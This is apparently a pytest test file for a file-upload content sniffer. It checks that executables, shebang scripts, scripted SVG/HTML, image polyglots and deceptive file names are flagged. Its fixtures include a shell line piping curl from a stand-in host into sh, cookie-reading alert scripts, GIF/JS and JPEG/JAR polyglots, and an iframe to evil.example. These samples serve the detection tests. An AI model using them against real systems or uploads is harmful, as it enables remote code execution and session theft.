"""Content sniffing with the real libmagic, on real files written here.

Each case is a lie from the security bar (tests 50 and 51) or the OWASP File
Upload Cheat Sheet, and each is caught by what the content is, not the name.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from meetwarden.policies.filetypes import FORBIDDEN_TYPES, is_forbidden_type
from meetwarden.server.files.nametypes import EXTENSION_TYPES, type_for_name
from meetwarden.server.files.sniff import FINDINGS, WINDOW, sniff_file

FileWriter = Callable[[str, bytes], Path]


def pdf() -> bytes:
    """A valid one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def png(extra_chunks: tuple[tuple[bytes, bytes], ...] = ()) -> bytes:
    """A valid 1x1 RGB PNG (CRCs computed), with optional ancillary chunks."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data) & 0xFFFFFFFF
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    body = b"".join(chunk(kind, data) for kind, data in extra_chunks)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + body
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    """A valid baseline 8x8 grey JPEG: one block, one-code Huffman tables."""

    def segment(marker: int, payload: bytes) -> bytes:
        return b"\xff" + bytes([marker]) + struct.pack(">H", len(payload) + 2) + payload

    one_code = bytes([1] + [0] * 15) + b"\x00"  # a single 1-bit code for symbol 0
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        + segment(0xDB, b"\x00" + b"\x01" * 64)
        + segment(0xC0, b"\x08" + struct.pack(">HH", 8, 8) + b"\x01\x01\x11\x00")
        + segment(0xC4, b"\x00" + one_code)
        + segment(0xC4, b"\x10" + one_code)
        + segment(0xDA, b"\x01\x01\x00\x00\x3f\x00")
        + b"\x3f"  # DC difference 0, end of block, padding
        + b"\xff\xd9"
    )


GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff"
    b"!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
TEXT = b"Agenda for Monday\n1. Budget\n2. Hiring\n"
HTML = b"<!DOCTYPE html>\n<html><body><p>hello</p></body></html>\n"
SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>"
)
SVG_PLAIN = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<rect width="10" height="10" fill="red"/></svg>\n'
)
SVG_WITH_HANDLER = (
    b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1" onclick="x()"/></svg>'
)
XML_WITH_XHTML_SCRIPT = (
    b'<?xml version="1.0"?>\n<data><x:script xmlns:x="http://www.w3.org/1999/xhtml">'
    b"alert(1)</x:script></data>\n"
)
XML_PLAIN = b'<?xml version="1.0"?>\n<data><item id="1">plain</item></data>\n'
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def mz_stub() -> bytes:
    """An MS-DOS header with nothing after it: Windows still starts it."""
    return b"MZ" + b"\x90\x00" * 30 + bytes(196)


def pe_stub() -> bytes:
    header = bytearray(256)
    header[0:2] = b"MZ"
    struct.pack_into("<I", header, 0x3C, 0x80)
    header[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HH", header, 0x84, 0x14C, 0)
    struct.pack_into("<HH", header, 0x94, 0xE0, 0x0102)
    return bytes(header)


def elf_stub() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + struct.pack("<HHI", 2, 62, 1) + bytes(100)


def zip_archive(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


JAR = {"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n", "Main.class": b"\xca\xfe\xba\xbe"}


# -- what is fine stays fine ------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "name", "declared", "mime"),
    [
        (pdf(), "report.pdf", "application/pdf", "application/pdf"),
        (png(), "slide.png", "image/png", "image/png"),
        (jpeg(), "photo.JPG", "image/jpg", "image/jpeg"),  # upper case, browser alias
        (GIF, "logo.gif", "image/gif", "image/gif"),
        (TEXT, "agenda.txt", "text/plain; charset=utf-8", "text/plain"),
        (b"a,b\n1,2\n3,4\n", "data.csv", "application/vnd.ms-excel", "text/csv"),
        (zip_archive({"a.txt": b"x"}), "bundle.zip", "application/x-zip-compressed", None),
        (TEXT, "agenda.txt", "application/octet-stream", "text/plain"),  # "do not know"
        (b"", "empty.txt", None, "inode/x-empty"),
    ],
    ids=["pdf", "png", "jpeg", "gif", "text", "csv", "zip", "octet-stream", "empty"],
)
def test_honest_files_have_no_findings(
    write_file: FileWriter, content: bytes, name: str, declared: str | None, mime: str | None
) -> None:
    result = sniff_file(write_file("upload", content), name, declared)

    assert result.findings == ()
    assert not result.forbidden
    assert not result.mismatch
    assert result.mime == (mime or "application/zip")


def test_image_with_xmp_metadata_is_not_a_polyglot(write_file: FileWriter) -> None:
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF></rdf:RDF></x:xmpmeta>'
    content = png(((b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + xmp),))

    assert sniff_file(write_file("upload", content), "photo.png").findings == ()


# -- executables and scripts, whatever their name ---------------------------------------


@pytest.mark.parametrize(
    "content",
    [mz_stub(), pe_stub(), elf_stub(), b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(56)],
    ids=["mz", "pe", "elf", "mach-o"],
)
def test_executable_named_pdf_is_an_executable_and_a_mismatch(
    write_file: FileWriter, content: bytes
) -> None:
    result = sniff_file(write_file("upload", content), "report.pdf", "application/pdf")

    assert result.executable_or_script
    assert result.mime in FORBIDDEN_TYPES
    assert result.forbidden
    assert {"executable_or_script", "name_mismatch", "declared_mismatch"} <= set(result.findings)


@pytest.mark.parametrize(
    "content",
    [SHELL, b"#!/usr/bin/env python3\nprint(1)\n", b"#!/opt/odd/interpreter\nrun\n"],
    ids=["sh", "python", "unknown-interpreter"],
)
def test_text_with_a_shebang_is_a_script(write_file: FileWriter, content: bytes) -> None:
    result = sniff_file(write_file("upload", content), "notes.txt", "text/plain")

    assert result.executable_or_script
    assert is_forbidden_type(result.mime)
    assert result.name_mismatch


def test_jar_named_zip_is_a_java_archive(write_file: FileWriter) -> None:
    result = sniff_file(write_file("upload", zip_archive(JAR)), "bundle.zip")

    assert result.mime == "application/java-archive"
    assert result.executable_or_script
    assert result.name_mismatch


# -- active content ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "mime"),
    [(HTML, "text/html"), (SVG_WITH_SCRIPT, "image/svg+xml"), (SVG_WITH_HANDLER, "image/svg+xml")],
    ids=["html", "svg-script", "svg-handler"],
)
def test_png_name_on_html_or_scripted_svg_is_active_content(
    write_file: FileWriter, content: bytes, mime: str
) -> None:
    result = sniff_file(write_file("upload", content), "image.png", "image/png")

    assert result.mime == mime
    assert result.active_content
    assert not result.executable_or_script
    assert {"active_content", "forbidden_type", "name_mismatch", "declared_mismatch"} <= set(
        result.findings
    )


def test_svg_without_script_is_not_active_but_still_never_shared(write_file: FileWriter) -> None:
    result = sniff_file(write_file("upload", SVG_PLAIN), "drawing.svg", "image/svg+xml")

    assert not result.active_content
    assert result.findings == ("forbidden_type", "name_forbidden")


def test_xml_is_active_only_when_it_holds_script(write_file: FileWriter) -> None:
    scripted = sniff_file(write_file("scripted", XML_WITH_XHTML_SCRIPT))
    plain = sniff_file(write_file("plain", XML_PLAIN))

    assert scripted.active_content
    assert not plain.active_content
    assert plain.findings == ()  # no name given: no claim to check


def test_script_deep_inside_a_large_svg_is_found(write_file: FileWriter) -> None:
    padding = b"<!-- " + b"x" * (3 * WINDOW) + b" -->"
    content = SVG_PLAIN.replace(b"<rect", padding + b"<script>alert(1)</script><rect")

    assert sniff_file(write_file("upload", content), "a.svg").active_content


# -- polyglots ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "mime"),
    [
        (GIF[:-1] + b"<html><script>alert(1)</script></html>;", "image/gif"),
        (b"GIF89a/*" + GIF[8:] + b"*/=alert(1);", "image/gif"),  # GIF/JS
        (jpeg()[:4] + b"/*" + jpeg()[6:], "image/jpeg"),  # JPEG/JS: APP0 length opens a comment
        (pdf() + b"<script>alert(1)</script>\n", "application/pdf"),
        (b"<html><script>alert(1)</script></html>\n" + pdf(), "application/pdf"),
        (png() + zip_archive({"a.txt": b"x"}), "image/png"),
        (jpeg() + zip_archive(JAR), "image/jpeg"),  # a GIFAR-style image with a JAR behind it
        (png() + bytes(3 * WINDOW) + b"<iframe src=//evil.example>", "image/png"),
    ],
    ids=["gif-html", "gif-js", "jpeg-js", "pdf-script", "html-pdf", "png-zip", "jpeg-jar", "tail"],
)
def test_polyglots_are_caught(write_file: FileWriter, content: bytes, mime: str) -> None:
    result = sniff_file(write_file("upload", content), "picture." + mime.split("/")[1])

    assert result.mime == mime
    assert result.polyglot
    assert "polyglot" in result.findings


# -- deceptive names ----------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "report.pdf.exe",
        "X.PhP",
        "invoice.exe.",
        "invoice.exe . .",
        "invoice\u202efdp.exe",
        "holiday.scr",
        "run.BAT",
        "link.lnk",
        "page.HTML",
        "tool.ps1",
        "app.jar",
    ],
)
def test_names_that_claim_an_executable_or_script_are_forbidden(
    write_file: FileWriter, name: str
) -> None:
    result = sniff_file(write_file("upload", pdf()), name)

    assert result.name_mime is not None
    assert is_forbidden_type(result.name_mime)
    assert "name_forbidden" in result.findings
    assert result.forbidden
    assert result.name_mismatch


@pytest.mark.parametrize("name", ["notes", "notes.xyz", "notes.pdf::$DATA", ".pdf"])
def test_names_without_a_known_extension_are_a_mismatch(write_file: FileWriter, name: str) -> None:
    result = sniff_file(write_file("upload", pdf()), name)

    assert result.name_mime is None
    assert result.findings == ("name_unknown", "name_mismatch")


def test_declared_type_that_lies_is_a_declared_mismatch(write_file: FileWriter) -> None:
    result = sniff_file(write_file("upload", png()), "slide.png", "text/html")

    assert result.findings == ("declared_mismatch",)
    assert result.declared_mime == "text/html"


def test_extension_table_names_only_forbidden_or_known_types() -> None:
    for extension in ("exe", "dll", "scr", "msi", "bat", "cmd", "ps1", "sh", "py", "php", "js"):
        assert EXTENSION_TYPES[extension] in FORBIDDEN_TYPES, extension
    assert type_for_name("REPORT.PDF") == "application/pdf"
    assert type_for_name("no_extension") is None


def test_findings_are_reported_in_the_documented_order(write_file: FileWriter) -> None:
    result = sniff_file(write_file("upload", HTML), "x.exe", "image/png")

    assert list(result.findings) == sorted(result.findings, key=FINDINGS.index)
